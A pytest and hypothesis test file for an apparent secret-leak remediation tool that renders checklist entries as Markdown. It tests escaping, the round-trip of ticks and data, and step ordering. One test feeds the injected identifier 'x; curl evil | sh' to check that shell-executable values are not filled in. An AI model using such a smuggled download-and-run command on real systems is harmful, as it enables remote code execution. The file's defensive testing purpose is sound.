"""An entry as Markdown: what people tick comes back, and nothing of a repository is markup in it."""

import re
from dataclasses import replace

import pytest
from entries import entry
from hypothesis import given
from hypothesis import strategies as st

from secretsweep.checklist import body, kept
from secretsweep.model import Done, Exposure
from secretsweep.model.guide import STEPS

texts = st.text(max_size=60)


@given(texts)
def test_text_of_others_neither_mentions_nor_ends_a_comment(text: str) -> None:
    for shown in (body.plain(text), body.code(text)):
        assert "\n" not in shown and "<!--" not in shown and "-->" not in shown
    assert not re.search(r"@(?!\u200b)", body.plain(text))


@given(texts)
def test_a_code_span_ends_where_it_should(text: str) -> None:
    shown = body.code(text)
    fence = re.match(r"`+", shown)
    assert fence is not None and shown.endswith(fence[0])
    assert fence[0] not in shown[len(fence[0]) : -len(fence[0])]


@given(st.dictionaries(st.sampled_from(STEPS), st.tuples(texts, texts, st.booleans()), max_size=10))
def test_ticks_and_their_evidence_come_back(done: dict[str, tuple[str, str, bool]]) -> None:
    made = entry()
    for step, (evidence, who, skipped) in done.items():
        made = made.ticked(step, Done("2026-03-01T12:00:00+00:00", who, evidence, skipped))
    found = body.ticks(body.written(made))
    assert found.keys() == done.keys()
    for step, (evidence, _, skipped) in done.items():
        words = " ".join("".join(c if c.isprintable() else " " for c in evidence).split())
        if words and not words.endswith(")"):
            assert found[step].evidence == words.replace("<!--", "<! --").replace("-->", "-- >").replace("@\u200b", "@")
            assert found[step].skipped == skipped


@given(
    texts,
    texts,
    st.sampled_from(["open", "closed", "accepted"]),
    st.lists(st.builds(Exposure, texts, st.integers(1, 9), texts, texts, st.booleans(), texts), max_size=4),
)
def test_an_entry_comes_back_from_its_data(name: str, reason: str, state: str, exposures: list[Exposure]) -> None:
    made = entry(name=name or "x", purge_reason=reason, state=state, exposures=tuple(exposures))
    text = body.written(replace(made, id="0" * 32), data=True)
    facts = body.data(text)
    assert facts is not None
    back = kept.read(facts)
    assert replace(back, events=body.events(facts["events"])) == replace(made, id="0" * 32)
    assert text.count("-->") == 2


def test_a_tick_in_a_command_is_no_tick() -> None:
    text = "- [ ] **misuse** look\n  ```sh\n- [x] **misuse** not this\n  ```\n- [x] **roll** done\n  - evidence: seen\n"
    assert body.ticks(text) == {"roll": Done("", "", "seen")}


def test_evidence_below_an_open_step_ticks_nothing() -> None:
    assert body.ticks("- [ ] **misuse** look\n  - evidence: not yet\n") == {}


@pytest.mark.parametrize("text", ["", "<!-- secretsweep:data\n{\n-->", "<!-- secretsweep:data\n[[[\n-->", "-->"])
def test_damaged_data_is_no_data(text: str) -> None:
    assert body.data(text) is None


@pytest.mark.parametrize(
    "change",
    [{"state": "gone"}, {"severity": 3}, {"exposures": [{"path": 1}]}, {"reopened": "many"}, {"identifiers": ["a"]}],
)
def test_facts_of_a_wrong_shape_are_refused(change: dict[str, object]) -> None:
    with pytest.raises(ValueError):
        kept.read({**kept.facts(entry()), **change})


def test_a_body_stays_below_what_trackers_take() -> None:
    places = tuple(Exposure(f"{'long/' * 200}{n}.tf", n, "k" * 900, "terraform", True) for n in range(500))
    text = body.written(entry(exposures=places))
    assert len(text) < 65_536
    assert "and 480 more places" in text or "and 497 more places" in text


def test_identifiers_that_a_shell_would_execute_are_not_filled_in() -> None:
    text = body.written(entry(identifiers={"role": "x; curl evil | sh"}))
    assert "curl evil" not in text.split("secretsweep:data")[0]
    assert "<role>" in text


def test_known_identifiers_and_facts_are_filled_in() -> None:
    text = body.written(entry())
    assert "ALTER ROLE shop NOLOGIN" in text
    assert "secret/iac/shop/auth-password#value in vault" in text
    assert "since 2024-01-02" in text


def test_a_public_leak_is_disabled_first() -> None:
    assert [task.id for task in entry(public="yes").tasks][:2] == ["assess", "disable"]
    assert [task.id for task in entry(public="no").tasks] == list(STEPS)
